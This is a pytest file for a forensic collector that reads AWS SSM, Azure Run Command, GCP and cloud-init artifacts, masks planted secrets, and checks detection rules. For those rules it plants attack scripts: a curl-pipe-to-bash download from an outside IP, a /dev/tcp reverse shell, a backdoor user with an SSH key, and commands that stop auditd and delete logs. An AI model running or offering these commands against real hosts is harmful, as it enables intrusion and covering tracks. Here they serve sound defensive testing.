"""The cloudagents artifact (collectors/files/cloudagents.py) over fake roots laid out as the cloud agents lay
out their files, and the rules of specs/rules/cloud_control.yaml.

None of these agents can run here (they need their cloud's metadata service), and Debian's cloud-init writes
/var/lib/cloud only by running against a datasource on the machine itself, which would reconfigure this host;
so every file below is written in the agent's documented format, each citing the source that defines it:

- SSM agent log: aws/amazon-ssm-agent ``seelog_unix.xml`` (``fmtinfo``: ``%Date(2006-01-02 15:04:05.0000) %LEVEL
  %Msg``, local time; rollingfile ``amazon-ssm-agent.log.N``); messages and their context tags as the agent's
  code writes them (``framework/runpluginutil/runpluginutil.go`` "Running plugin %s %s",
  ``messageservice/interactor/mgsinteractor/mgsinteractor.go`` "Processing AgentMessage: ...",
  ``framework/processor/executer/outofproc/worker/main.go`` "document: %v worker started",
  ``messagehandler/processorwrappers/commandworkerprocessorwrapper.go`` "command: %s complete").
- SSM orchestration and state: ``appconfig/constants_unix.go`` (``/var/lib/amazon/ssm/``, ``_script.sh``),
  ``appconfig/constants.go`` (``document``, ``orchestration``, ``state/{pending,current,completed}``),
  ``plugins/runscript/runscript.go`` (``<orchestration>/<plugin id>/_script.sh``), ``contracts/document.go``
  (``DocumentState`` JSON), ``session/config/config.go`` (``ipcTempFile``).
- waagent.log: Azure/WALinuxAgent ``azurelinuxagent/common/logger.py`` (``"{time} {level} {thread} {prefix}
  {msg}"``, time from ``common/utils/timeutil.py`` ``create_utc_timestamp``) and ``ga/exthandlers.py``
  ("Target handler state: ...", "Enable extension: [...]", the handler prefix ``[<name>-<version>]``).
- Run Command v1: Azure/run-command-extension-linux ``main/main.go`` (``/var/lib/waagent/run-command``,
  go-kit logfmt with ``time``, ``version``, ``operation``, ``seq``), ``main/cmds.go`` (``download/<seq>/script.sh``,
  events "executing protected script", "executed command"), ``main/status.go`` (the ``.status`` JSON),
  ``misc/run-command-shim`` (``/var/log/azure/run-command/handler.log``).
- GCP: GoogleCloudPlatform/guest-agent ``google-startup-scripts.service`` (journal+console) and
  ``google_metadata_script_runner/main.go``; a syslog line as rsyslog's traditional template writes it.
- cloud-init: canonical/cloud-init ``cloudinit/helpers.py`` ``Paths.lookups`` (``user-data.txt``,
  ``user-data.txt.i``, ``scripts``, ``.instance-id``, ``obj.pkl``, ``instance-data-sensitive.json``) and
  ``cloudinit/log/loggers.py`` (``%(asctime)s - %(filename)s[%(levelname)s]: %(message)s``, gmtime).
"""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
import tarfile
import time
from pathlib import Path

import pytest
from conftest import need, run_triagent, summary_of

from agent.analysis import rules as engine
from collectors.base import Context, FileCopy, Problem, Record
from collectors.files import cloudagents

NOW = time.time()
RULES = [r for r in engine.load_rules() if r.id.startswith("TRI-CLOUD-")]
IID = "i-0a1b2c3d4e5f60718"
CMD = "7d0e8f3a-1c2b-4d5e-8f90-a1b2c3d4e5f6"


def _w(root: Path, path: str, body: str | bytes, mode: int = 0o644, mtime: float | None = None) -> Path:
    target = root / path.lstrip("/")
    target.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(body, bytes):
        target.write_bytes(body)
    else:
        target.write_text(body)
    os.chmod(target, mode)
    if mtime is not None:
        os.utime(target, (mtime, mtime))
    return target


def _collect(root: Path, include_secrets: bool = False, **options) -> tuple[dict[str, list[dict]], list[Problem],
                                                                            list[str]]:
    streams: dict[str, list[dict]] = {}
    problems: list[Problem] = []
    copies: list[str] = []
    ctx = Context(root=str(root), live=False, options=options, include_secrets=include_secrets, artifact="cloudagents")
    for item in cloudagents.collect(ctx):
        if isinstance(item, Record):
            streams.setdefault(item.stream, []).append(item.data)
        elif isinstance(item, Problem):
            problems.append(item)
        elif isinstance(item, FileCopy):
            copies.append(item.path)
            item.close()
    return streams, problems, copies


def _findings(streams: dict[str, list[dict]], now: float = NOW) -> dict[str, list[dict]]:
    def rows(source: str):
        for number, record in enumerate(streams.get(source, []), 1):
            yield "source", f"artifacts/{source}.jsonl", number, record

    out: dict[str, list[dict]] = {}
    for finding in engine.evaluate(RULES, rows, now):
        out.setdefault(finding["rule"], []).append(finding)
    return out


def _local(ts: float) -> str:
    return time.strftime("%Y-%m-%d %H:%M:%S", time.gmtime(ts))


# ---- AWS SSM ---------------------------------------------------------------------------------------------

def _ssm_log(ts: float) -> str:
    """amazon-ssm-agent.log as seelog's fmtinfo writes it (UTC host: /etc/localtime is not planted)."""
    d = _local(ts)
    return (
        f"{d}.0012 INFO [amazon-ssm-agent] amazon-ssm-agent - v3.3.987.0\n"
        f"{d}.1000 INFO [ssm-agent-worker] [HealthCheck] HealthCheck reporting agent health.\n"
        f"{d}.2000 INFO [ssm-agent-worker] [MessageService] [MGSInteractor] Processing AgentMessage: "
        f"MessageType - agent_job, Id - 4b8c6f0e-2a1d-4c3b-9e8f-0123456789ab\n"
        f"{d}.3000 INFO [ssm-agent-worker] [MessageService] [EngineProcessor] [OutOfProcExecuter] [{CMD}] "
        f"document {CMD} submission started\n"
        f"{d}.4000 INFO [ssm-document-worker] [{CMD}] document: {CMD} worker started\n"
        f"{d}.5000 INFO [ssm-document-worker] [{CMD}] [DocumentWorker] Running plugin aws:runShellScript "
        f"aws:runShellScript\n"
        f"{d}.6000 INFO [ssm-agent-worker] [MessageService] [MGSInteractor] Sending reply {{\n"
        f'  "documentStatus": "Success",\n'
        f'  "runtimeStatus": {{\n'
        f'    "aws:runShellScript": {{\n'
        f'      "status": "Success",\n'
        f'      "code": 0\n'
        f"    }}\n"
        f"  }}\n"
        f"}}\n"
        f"{d}.7000 INFO [ssm-agent-worker] [MessageService] [CommandWorkerProcessorWrapper] command: "
        f"aws.ssm.{CMD}.{IID} complete\n"
        f"{d}.8000 ERROR [ssm-agent-worker] [MessageService] [MGSInteractor] failed to connect to control channel\n"
    )


def _ssm_state(document: str, commands: list[str], created: float, extra_props: dict | None = None) -> str:
    """contracts.DocumentState as the agent marshals it (encoding/json, Go field names)."""
    iso = time.strftime("%Y-%m-%dT%H:%M:%S.000Z", time.gmtime(created))
    props = {"id": "0.aws:runShellScript", "runCommand": commands, "timeoutSeconds": "3600", **(extra_props or {})}
    return json.dumps({
        "DocumentInformation": {"DocumentID": CMD, "CommandID": CMD, "AssociationID": "", "InstanceID": IID,
                                "MessageID": f"aws.ssm.{CMD}.{IID}", "RunID": "", "CreatedDate": iso,
                                "DocumentName": document, "DocumentVersion": "$DEFAULT", "DocumentStatus": "Success",
                                "RunCount": 0, "ProcInfo": {"Pid": 0, "StartTime": "0001-01-01T00:00:00Z"},
                                "ClientId": "", "RunAsUser": "", "SessionOwner": ""},
        "DocumentType": "SendCommand", "SchemaVersion": "1.2",
        "InstancePluginsInformation": [{
            "Configuration": {"Settings": None, "Properties": props, "OutputS3KeyPrefix": "", "OutputS3BucketName": "",
                              "OrchestrationDirectory": f"/var/lib/amazon/ssm/{IID}/document/orchestration/{CMD}/"
                                                        "awsrunShellScript",
                              "MessageId": f"aws.ssm.{CMD}.{IID}", "PluginName": "aws:runShellScript",
                              "PluginID": "aws:runShellScript", "RunAsUser": ""},
            "Name": "aws:runShellScript",
            "Result": {"pluginID": "aws:runShellScript", "pluginName": "aws:runShellScript", "status": "Success",
                       "code": 0, "output": "done", "startDateTime": iso, "endDateTime": iso, "stepName": "",
                       "error": "", "standardOutput": "", "standardError": ""},
            "Id": "aws:runShellScript"}],
        "CancelInformation": {"CancelMessageID": "", "CancelCommandID": "", "Payload": "", "DebugInfo": ""},
        "IOConfig": {"OrchestrationDirectory": "", "OutputS3BucketName": "", "OutputS3KeyPrefix": "",
                     "CloudWatchConfig": {"LogGroupName": "", "LogStreamPrefix": "",
                                          "LogGroupEncryptionEnabled": False}},
        "UpstreamServiceName": "MessageGatewayService"}, indent=2)


def _ssm_root(root: Path, script: str, document: str = "AWS-RunShellScript", when: float = NOW - 3600,
              extra_props: dict | None = None) -> Path:
    base = f"/var/lib/amazon/ssm/{IID}/document"
    _w(root, "/var/log/amazon/ssm/amazon-ssm-agent.log", _ssm_log(when), mtime=when)
    _w(root, "/var/log/amazon/ssm/amazon-ssm-agent.log.1", _ssm_log(when - 86400), mtime=when - 86400)
    run = f"{base}/orchestration/{CMD}/awsrunShellScript/0.awsrunShellScript"
    _w(root, f"{run}/_script.sh", script, 0o700, mtime=when)
    _w(root, f"{run}/stdout", "ok\n", 0o600, mtime=when)
    _w(root, f"{run}/stderr", "", 0o600, mtime=when)
    _w(root, f"{base}/state/completed/{CMD}", _ssm_state(document, script.splitlines(), when, extra_props), 0o600,
       mtime=when)
    _w(root, "/var/lib/amazon/ssm/credentials", "[default]\naws_secret_access_key = NEVERREADTHISFILE0000\n", 0o600)
    return root


def test_ssm_log_scripts_and_states_in_the_agents_formats(tmp_path):
    root = _ssm_root(tmp_path / "root", "#!/bin/sh\nid\nuname -a\n", extra_props={"apiToken": "tok-12345-secret"})
    _w(root, f"/var/lib/amazon/ssm/{IID}/session/orchestration/alice-0a1b2c3d4e5f67890/Standard_Stream/"
       "ipcTempFile.log", "$ whoami\nroot\n", 0o600, mtime=NOW - 600)
    streams, problems, copies = _collect(root)
    log = streams["cloud_agent_log"]
    assert not [r for r in log if "HealthCheck" in r["message"]]  # pings are counted, not kept
    run = next(r for r in log if r.get("event") == "plugin_run" and r["path"].endswith(".log"))
    assert run["plugin"] == "aws:runShellScript" and run["command_id"] == CMD and run["run_shell_script"]
    assert run["process"] == "ssm-document-worker" and run["level"] == "INFO"
    assert run["time_utc"].endswith("Z") and run["time_utc"][:19].replace("T", " ") == _local(NOW - 3600)
    reply = next(r for r in log if r.get("event") == "reply_sent" and r["path"].endswith(".log"))
    assert '"documentStatus": "Success"' in reply["message"]  # continuation lines belong to their header
    done = next(r for r in log if r.get("event") == "command_complete" and r["path"].endswith(".log"))
    assert done["instance_id"] == IID and done["command_id"] == CMD
    assert any(r["path"].endswith(".log.1") for r in log)  # the rotation is read too
    assert any(r.get("event") == "error" for r in log)

    script = streams["cloud_run_scripts"][0]
    assert script["channel"] == "ssm-run-command" and script["command_id"] == CMD and script["instance_id"] == IID
    assert script["plugin"] == "awsrunShellScript" and script["plugin_id"] == "0.awsrunShellScript"
    assert script["document_name"] == "AWS-RunShellScript" and script["document_status"] == "Success"
    assert script["sha256"] == hashlib.sha256(b"#!/bin/sh\nid\nuname -a\n").hexdigest()
    assert script["first_lines"][:2] == ["#!/bin/sh", "id"] and script["interpreter"] == "/bin/sh"
    assert script["stdout_size"] == 3 and script["mode"] == "0700"

    state = next(r for r in streams["cloud_run_commands"] if r["kind"] == "ssm_document_state")
    assert state["document_name"] == "AWS-RunShellScript" and state["state"] == "completed"
    assert state["commands"] == ["#!/bin/sh", "id", "uname -a"] and state["plugin_names"] == ["aws:runShellScript"]
    assert state["plugins"][0]["parameters"]["apiToken"] == cloudagents.WITHHELD
    assert state["withheld"] == ["Properties.apiToken"] and state["created_utc"].endswith("Z")
    assert "tok-12345-secret" not in json.dumps(streams)
    session = next(r for r in streams["cloud_run_commands"] if r["kind"] == "ssm_session")
    assert session["session_id"] == "alice-0a1b2c3d4e5f67890" and session["plugin"] == "Standard_Stream"

    assert any(p.endswith("/_script.sh") for p in copies) and any(p.endswith("/stdout") for p in copies)
    assert any(p.endswith("ipcTempFile.log") for p in copies)
    assert not any(p.endswith(f"/state/completed/{CMD}") for p in copies)  # a secret-named parameter: not raw
    assert "/var/lib/amazon/ssm/credentials" not in copies and "NEVERREADTHISFILE" not in json.dumps(streams)
    summary = {r["channel"]: r for r in streams["cloud_agents"]}
    assert summary["ssm-run-command"]["scripts"] == 1 and IID in summary["ssm-run-command"]["instance_ids"]
    with_secrets, _, copies = _collect(root, include_secrets=True)
    assert "tok-12345-secret" in json.dumps(with_secrets["cloud_run_commands"])
    assert any(p.endswith(f"/state/completed/{CMD}") for p in copies)


def test_ssm_local_time_is_turned_to_utc_with_the_hosts_zone(tmp_path):
    zone = Path("/usr/share/zoneinfo/America/New_York")
    if not zone.is_file():
        pytest.skip("no tzdata")
    root = tmp_path / "root"
    _w(root, "/var/log/amazon/ssm/amazon-ssm-agent.log",
       "2026-07-01 08:00:00.0000 INFO [ssm-document-worker] [x] Running plugin aws:runShellScript a\n")
    _w(root, "/etc/localtime", zone.read_bytes())  # the host's own TZif (EDT, UTC-4 in July)
    log = _collect(root)[0]["cloud_agent_log"]
    assert log[0]["time_utc"] == "2026-07-01T12:00:00Z" and log[0]["time_local"] == "2026-07-01 08:00:00.0000"


# ---- Azure ---------------------------------------------------------------------------------------------

RC = "Microsoft.CPlat.Core.RunCommandLinux"


def _azure_root(root: Path, script: str, when: float = NOW - 7200) -> Path:
    iso = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(when))
    _w(root, "/var/log/waagent.log",
       f"{iso}.123456Z INFO Daemon Daemon Azure Linux Agent Version: 2.9.1.1\n"
       f"{iso}.223456Z INFO ExtHandler ExtHandler ProcessExtensionsGoalState started [incarnation_5]\n"
       f"{iso}.323456Z INFO ExtHandler [{RC}-1.0.5] Target handler state: enabled [incarnation_5]\n"
       f"{iso}.423456Z INFO ExtHandler [{RC}-1.0.5] Enable extension: [bin/run-command-shim enable]\n"
       f"{iso}.523456Z INFO ExtHandler ExtHandler [HEARTBEAT] Agent WALinuxAgent-2.9.1.1 is running\n", mtime=when)
    _w(root, "/var/log/azure/run-command/handler.log",
       f"time={iso}.9Z version=v1.0.5/git@5a1d3c9-clean operation=enable seq=3 event=start\n"
       f'time={iso}.9Z version=v1.0.5/git@5a1d3c9-clean operation=enable seq=3 event="executing protected script" '
       f"output=/var/lib/waagent/run-command/download/3\n"
       f'time={iso}.9Z version=v1.0.5/git@5a1d3c9-clean operation=enable seq=3 event="executed command" '
       f"output=/var/lib/waagent/run-command/download/3\n", mtime=when)
    _w(root, "/var/lib/waagent/run-command/download/3/script.sh", script, 0o500, mtime=when)
    _w(root, "/var/lib/waagent/run-command/download/3/stdout", "hello\n", 0o600, mtime=when)
    _w(root, "/var/lib/waagent/run-command/download/3/stderr", "", 0o600, mtime=when)
    status = [{"version": 1, "timestampUTC": f"{iso}Z", "status": {
        "operation": "Enable", "status": "success",
        "formattedMessage": {"lang": "en", "message": "Enable succeeded: \n[stdout]\nhello\n\n[stderr]\n"}}}]
    _w(root, f"/var/lib/waagent/{RC}-1.0.5/status/3.status", json.dumps(status, indent="\t"), mtime=when)
    settings = {"runtimeSettings": [{"handlerSettings": {
        "protectedSettingsCertThumbprint": "B1A2C3D4E5F60718293A4B5C6D7E8F9012345678",
        "protectedSettings": "MIIB8wYJKoZIhvcNAQcDoIIB5DCCAeACAQAxggFpMIIBZQIBADBNMDkxNzA1BgoJkiaJk/IsZAEZ",
        "publicSettings": {"script": "", "storageAccountKey": "c2VjcmV0LWtleS12YWx1ZQ=="}}}]}
    _w(root, f"/var/lib/waagent/{RC}-1.0.5/config/3.settings", json.dumps(settings), 0o600, mtime=when)
    return root


def test_azure_waagent_run_command_scripts_status_and_settings(tmp_path):
    root = _azure_root(tmp_path / "root", "#!/bin/bash\nhostname\n")
    streams, _, copies = _collect(root)
    log = streams["cloud_agent_log"]
    enable = next(r for r in log if r["agent"] == "waagent" and r.get("event") == "extension_enable")
    assert enable["extension"] == RC and enable["extension_version"] == "1.0.5" and enable["thread"] == "ExtHandler"
    assert enable["time_utc"].endswith(".323456Z")
    assert not [r for r in log if "HEARTBEAT" in r["message"]]
    handler = [r for r in log if r["agent"] == "run-command"]
    executing = next(r for r in handler if r["message"] == "executing protected script")
    assert executing["seq"] == "3" and executing["operation"] == "enable" and executing["run_command"]
    assert executing["output"] == "/var/lib/waagent/run-command/download/3" and executing["event"] == "script_executed"
    script = streams["cloud_run_scripts"][0]
    assert script["channel"] == "azure-run-command" and script["seq"] == "3" and script["stdout_size"] == 6
    commands = {r["kind"]: r for r in streams["cloud_run_commands"]}
    status = commands["azure_extension_status"]
    assert status["status"] == "success" and status["operation"] == "Enable" and "hello" in status["message"]
    assert status["channel"] == "azure-run-command" and status["extension_version"] == "1.0.5"
    settings = commands["azure_extension_settings"]["settings"][0]
    assert settings["protected_length"] == 76 and "protected" not in settings
    assert settings["public"]["storageAccountKey"] == cloudagents.WITHHELD
    assert "c2VjcmV0LWtleS12YWx1ZQ" not in json.dumps(streams)
    assert not any(p.endswith(".settings") for p in copies)
    assert any(p.endswith("download/3/script.sh") for p in copies) and any(p.endswith(".status") for p in copies)


# ---- GCP ---------------------------------------------------------------------------------------------

def test_gcp_guest_software_lines_from_syslog_and_the_journal_said(tmp_path):
    root = tmp_path / "root"
    stamp = time.strftime("%b %d %H:%M:%S", time.gmtime(NOW - 100)).replace(" 0", "  ", 1)
    _w(root, "/var/log/syslog",
       f"{stamp} web1 google_metadata_script_runner[812]: Starting startup scripts (version 20240213.00).\n"
       f"{stamp} web1 google_metadata_script_runner[812]: Found startup-script in metadata.\n"
       f"{stamp} web1 google_metadata_script_runner[812]: startup-script: Hello from the startup script\n"
       f"{stamp} web1 google_guest_agent[640]: Creating user alice.\n"
       f"{stamp} web1 systemd[1]: Started Daily apt download activities.\n", mtime=NOW)
    _w(root, "/usr/bin/google_guest_agent", b"\x7fELF", 0o755)
    _w(root, "/etc/default/instance_configs.cfg", "[InstanceSetup]\nset_host_keys = true\n")
    streams, _, copies = _collect(root)
    log = [r for r in streams["cloud_agent_log"] if r["provider"] == "gcp"]
    assert [r["event"] for r in log] == ["metadata_script", "metadata_script", "metadata_script", "account"]
    assert log[2]["script_output"] == "Hello from the startup script" and log[0]["pid"] == 812
    gcp = next(r for r in streams["cloud_agents"] if r["provider"] == "gcp")
    assert "/usr/bin/google_guest_agent" in gcp["paths"] and "journal" in gcp["notes"][0]
    assert "/etc/default/instance_configs.cfg" in copies


# ---- cloud-init and the secrets of user-data ---------------------------------------------------------

AWS_SECRET = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
USER_DATA = f"""#cloud-config
users:
  - name: deploy
    groups: sudo
    ssh_authorized_keys:
      - ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIH0v0eBuKxGmQo6xGZQh9y8DgP2Zt3kWz0dI9pJ0aFqG deploy@ci
write_files:
  - path: /root/.aws/credentials
    content: |
      [default]
      aws_access_key_id = AKIAIOSFODNN7EXAMPLE
      aws_secret_access_key = {AWS_SECRET}
  - path: /etc/app.yaml
    content: |
      db:
        password: Tr0ub4dor-and-3
runcmd:
  - [sh, -c, "curl -fsSL https://get.docker.com | sh"]
"""
CHPASSWD = """#cloud-config
chpasswd:
  expire: false
  list: |
    root:S3cr3t-Root-Pass
    ubuntu:RANDOM
"""


def _cloud_root(root: Path, user_data: str = USER_DATA) -> Path:
    inst = "/var/lib/cloud/instances/i-0a1b2c3d4e5f60718"
    _w(root, f"{inst}/user-data.txt", user_data, 0o600)
    _w(root, f"{inst}/user-data.txt.i", "Content-Type: multipart/mixed; boundary=\"===\"\nMIME-Version: 1.0\n\n"
       "--===\nContent-Type: text/cloud-config\n\n" + user_data + "--===--\n", 0o600)
    _w(root, f"{inst}/cloud-config.txt", user_data, 0o600)
    _w(root, f"{inst}/vendor-data.txt", "#cloud-config\n{}\n", 0o600)
    _w(root, f"{inst}/.instance-id", "i-0a1b2c3d4e5f60718\n")
    _w(root, f"{inst}/datasource", "DataSourceEc2Local: DataSourceEc2Local\n")
    _w(root, f"{inst}/scripts/runcmd", "#!/bin/sh\nsh -c 'curl -fsSL https://get.docker.com | sh'\n", 0o700)
    _w(root, f"{inst}/obj.pkl", b"\x80\x04NEVERUNPICKLE", 0o400)
    _w(root, f"{inst}/instance-data-sensitive.json", '{"secret": "NEVERSENSITIVE"}', 0o600)
    os.symlink("/var/lib/cloud/instances/i-0a1b2c3d4e5f60718", root / "var/lib/cloud/instance")
    _w(root, "/var/lib/cloud/data/instance-id", "i-0a1b2c3d4e5f60718\n")
    _w(root, "/run/cloud-init/status.json", '{"v1": {"datasource": "DataSourceEc2Local"}}')
    _w(root, "/run/cloud-init/instance-data-sensitive.json", '{"secret": "NEVERSENSITIVE"}', 0o600)
    _w(root, "/var/lib/cloud/scripts/per-boot/10-motd.sh", "#!/bin/sh\necho hi > /run/motd\n", 0o755)
    _w(root, "/etc/cloud/cloud.cfg", "users:\n  - default\ncloud_init_modules:\n  - seed_random\n")
    _w(root, "/etc/cloud/cloud.cfg.d/90_dpkg.cfg", "datasource_list: [ Ec2, None ]\n")
    _w(root, "/var/log/cloud-init.log",
       "2026-11-30 10:00:01,101 - util.py[DEBUG]: Cloud-init v. 22.4.2 running 'init-local' at Mon, 30 Nov 2026 "
       "10:00:01 +0000. Up 5.01 seconds.\n"
       "2026-11-30 10:00:09,202 - util.py[DEBUG]: Running command ['useradd', 'deploy', '--groups', 'sudo', '-m'] "
       "with allowed return codes [0] (shell=False, capture=True)\n"
       "2026-11-30 10:00:09,100 - __init__.py[DEBUG]: Adding user deploy\n"
       "2026-11-30 10:00:12,303 - subp.py[DEBUG]: Running command ['/var/lib/cloud/instance/scripts/runcmd'] with "
       "allowed return codes [0] (shell=False, capture=False)\n"
       "2026-11-30 10:00:13,404 - handlers.py[DEBUG]: finish: modules-final: SUCCESS\n"
       "2026-11-30 10:00:13,505 - util.py[WARNING]: Failed to set locale\n")
    _w(root, "/var/log/cloud-init-output.log", "Cloud-init v. 22.4.2 finished at Mon, 30 Nov 2026 10:00:13 +0000.\n")
    return root


def test_cloud_init_layout_records_hashes_and_never_the_pickle(tmp_path):
    root = _cloud_root(tmp_path / "root")
    streams, problems, copies = _collect(root)
    data = {(r["kind"], os.path.basename(r["path"])): r for r in streams["cloud_init_data"]}
    ud = data[("user-data.txt", "user-data.txt")]
    assert ud["sha256"] == hashlib.sha256(USER_DATA.encode()).hexdigest() and ud["format"] == "cloud-config"
    assert ud["instance_id"] == "i-0a1b2c3d4e5f60718" and ud["current"] is True and ud["runs_commands"]
    assert ud["users_defined"] == ["deploy"] and ud["ssh_keys_defined"] == 1
    assert ud["urls"] == ["https://get.docker.com"] and ud["withheld"] == []
    assert data[("user-data.txt.i", "user-data.txt.i")]["format"] in ("mime-multipart", "mime")
    assert ("system-config", "90_dpkg.cfg") in data
    scripts = {r["channel"]: r for r in streams["cloud_run_scripts"]}
    assert scripts["cloud-init-user-script"]["path"].endswith("/scripts/runcmd")
    assert scripts["cloud-init-per-boot"]["path"] == "/var/lib/cloud/scripts/per-boot/10-motd.sh"
    log = [r for r in streams["cloud_agent_log"] if r["provider"] == "cloud-init"]
    assert {r["event"] for r in log} >= {"stage_start", "command_run", "user_added", "warning"}
    assert next(r for r in log if r.get("user"))["user"] == "deploy"
    assert next(r for r in log if "runcmd" in r.get("command", ""))["time_utc"] == "2026-11-30T10:00:12.303000Z"
    text_ = json.dumps(streams)
    assert "NEVERUNPICKLE" not in text_ and "NEVERSENSITIVE" not in text_
    assert not any(p.endswith(("obj.pkl", "instance-data-sensitive.json")) for p in copies)
    # one instance, reached both through the link and under instances/: listed once
    assert len([r for r in streams["cloud_init_data"] if r["kind"] == "user-data.txt"]) == 1
    assert "/var/log/cloud-init-output.log" in copies and "/var/lib/cloud/data/instance-id" in copies
    assert "/run/cloud-init/status.json" in copies and "/run/cloud-init/instance-data-sensitive.json" not in copies
    assert "/var/lib/cloud/instances/i-0a1b2c3d4e5f60718/user-data.txt" in copies


def test_chpasswd_lists_are_withheld_here_and_the_file_is_not_copied_raw(tmp_path):
    root = _cloud_root(tmp_path / "root", CHPASSWD)
    streams, problems, copies = _collect(root)
    ud = next(r for r in streams["cloud_init_data"] if r["kind"] == "user-data.txt")
    assert "S3cr3t-Root-Pass" not in json.dumps(streams) and "root:****" in ud["text"]
    assert ud["withheld"] == ["chpasswd list: 2 password(s)"] and "expire: false" in ud["text"]
    assert ud["sha256"] == hashlib.sha256(CHPASSWD.encode()).hexdigest()  # of the original
    assert not any(p.endswith("/user-data.txt") for p in copies)
    assert any("chpasswd" in p.message for p in problems)
    streams, _, copies = _collect(root, include_secrets=True)
    assert "S3cr3t-Root-Pass" in json.dumps(streams) and any(p.endswith("/user-data.txt") for p in copies)


@pytest.mark.parametrize("doc, expected", [
    ("chpasswd:\n  list:\n    - root:pw1\n    - 'bob:pw2'\n",
     "chpasswd:\n  list:\n    - root:****\n    - 'bob:****'\n"),
    ("chpasswd: {expire: false}\nruncmd:\n  - echo a:b\n", "chpasswd: {expire: false}\nruncmd:\n  - echo a:b\n"),
    ("users:\n  - name: x\n    plain_text_passwd: pw\n", "users:\n  - name: x\n    plain_text_passwd: pw\n"),
    # as cloud-init's cloud-config.txt dumps a literal block: a single-quoted folded scalar
    ("chpasswd:\n    expire: false\n    list: 'root:pw1\n\n        bob:pw2\n\n        '\nusers:\n-   name: a:b\n",
     "chpasswd:\n    expire: false\n    list: 'root:****\n\n        bob:****\n\n        '\nusers:\n-   name: a:b\n"),
    ('chpasswd: {list: "root:pw1\\nbob:pw2\\n", expire: false}\n', 'chpasswd: {list: "root:****\\nbob:****\\n", '
     'expire: false}\n'),
    ("chpasswd:\n  users:\n    - {name: root, password: pw9, type: text}\n",
     "chpasswd:\n  users:\n    - {name: root, password: ****, type: text}\n"),
])
def test_mask_chpasswd(doc, expected):
    assert cloudagents.mask_chpasswd(doc)[0] == expected


def _bundle(tmp_path: Path, root: Path, *extra: str) -> dict[str, bytes]:
    out = tmp_path / ("out" + "".join(extra).replace("-", ""))
    bundle = summary_of(run_triagent(["collect", "--root", str(root), "--artifacts", "cloudagents",
                                      "--output", str(out), *extra]))["bundle"]
    with tarfile.open(bundle) as tar:
        return {m.name: tar.extractfile(m).read() for m in tar.getmembers() if m.isfile()}


def test_whole_run_user_data_secrets_never_leave_without_include_secrets(tmp_path):
    """A planted AWS secret key and a ``password:`` line in user-data: the records (masked by the gate) and the
    raw copies (scrubbed by the gate) hold neither; --include-secrets keeps both."""
    root = _cloud_root(tmp_path / "root")
    members = _bundle(tmp_path, root)
    everything = b"".join(members.values())
    assert AWS_SECRET.encode() not in everything and b"Tr0ub4dor-and-3" not in everything
    copy = next(v for k, v in members.items() if k.endswith("instances/i-0a1b2c3d4e5f60718/user-data.txt"))
    assert len(copy) == len(USER_DATA) and b"aws_secret_access_key = ****" in copy  # masked in place
    records = [json.loads(line) for k, v in members.items() if k.endswith("cloud_init_data.jsonl")
               for line in v.splitlines()]
    ud = next(r for r in records if r["kind"] == "user-data.txt")
    assert ud["sha256"] == hashlib.sha256(USER_DATA.encode()).hexdigest() and ud["redacted"]
    assert "runcmd:" in ud["text"]  # the rest of the text stays readable
    members = _bundle(tmp_path, root, "--include-secrets")
    everything = b"".join(members.values())
    assert AWS_SECRET.encode() in everything and b"Tr0ub4dor-and-3" in everything


# ---- rules: each fires on its behaviour and stays silent on the look-alike ------------------------------

CASES = {
    # rule: (the script a channel ran, a benign script of the same channel)
    "TRI-CLOUD-001": ("#!/bin/bash\ncurl -s http://203.0.113.9:8080/x.sh | bash\n",
                      "#!/bin/bash\ncurl -fsS https://example.com/health -o /dev/null\nsystemctl restart nginx\n"),
    "TRI-CLOUD-002": ("#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n",
                      "#!/bin/bash\ntimeout 2 bash -c 'echo > /dev/tcp/127.0.0.1/5432' && echo db up\n"),
    "TRI-CLOUD-003": ("#!/bin/bash\nuseradd -m -s /bin/bash sysupd\necho 'ssh-ed25519 AAAAC3Nza... x' >> "
                      "/root/.ssh/authorized_keys\n",
                      "#!/bin/bash\ngetent passwd deploy\ncat /root/.ssh/authorized_keys | wc -l\n"),
    "TRI-CLOUD-004": ("#!/bin/bash\nsystemctl stop auditd rsyslog\nrm -rf /var/log/amazon/ssm\n",
                      "#!/bin/bash\nsystemctl restart rsyslog\ntail -n 50 /var/log/syslog\n"),
}


@pytest.mark.parametrize("rule_id", sorted(CASES))
@pytest.mark.parametrize("provider", ["aws", "azure"])
def test_rule_fires_on_the_behaviour_not_on_its_look_alike(tmp_path, rule_id, provider):
    planted, benign = CASES[rule_id]
    make = _ssm_root if provider == "aws" else _azure_root
    for name, script in (("planted", planted), ("benign", benign)):
        found = _findings(_collect(make(tmp_path / name, script))[0])
        highs = {r: f for r, f in found.items() if f[0]["severity"] == "high"}
        if name == "planted":
            assert rule_id in highs, (rule_id, sorted(found))
            flat = [f for hits in found.values() for f in hits]
            assert engine.verdict(flat, True, engine.load_verdict_policy())["recommendation"] == "yes"
            assert found[rule_id][0]["evidence"][0]["member"] == "artifacts/cloud_run_scripts.jsonl"
        else:
            assert highs == {}, highs
            # the channel was used: an informational low, nothing that asks for the disk
            assert [f["severity"] for f in found["TRI-CLOUD-010"]] == ["low"]
            flat = [f for hits in found.values() for f in hits]
            assert engine.verdict(flat, False, engine.load_verdict_policy())["recommendation"] == "no", flat


def test_aws_patching_documents_and_cloud_init_installers_are_not_high(tmp_path):
    script = "#!/bin/bash\ncurl -s http://203.0.113.9:8080/x.sh | bash\n"
    found = _findings(_collect(_ssm_root(tmp_path / "patch", script, document="AWS-RunPatchBaseline"))[0])
    assert "TRI-CLOUD-001" not in found and "TRI-CLOUD-010" not in found
    found = _findings(_collect(_cloud_root(tmp_path / "ci"))[0])  # runcmd: curl https://get.docker.com | sh
    assert found == {}, found


def test_run_command_outside_the_window_is_not_reported(tmp_path):
    old = NOW - 40 * 86400
    found = _findings(_collect(_ssm_root(tmp_path / "old", "#!/bin/sh\nid\n", when=old))[0])
    assert "TRI-CLOUD-010" not in found
    found = _findings(_collect(_ssm_root(tmp_path / "new", "#!/bin/sh\nid\n"))[0])
    assert len(found["TRI-CLOUD-010"]) == 1  # the script and its document state: one finding
    assert found["TRI-CLOUD-010"][0]["document_name"] == "AWS-RunShellScript"


def test_every_cloud_rule_has_its_case():
    assert {r.id for r in RULES} - set(CASES) == {"TRI-CLOUD-010"}


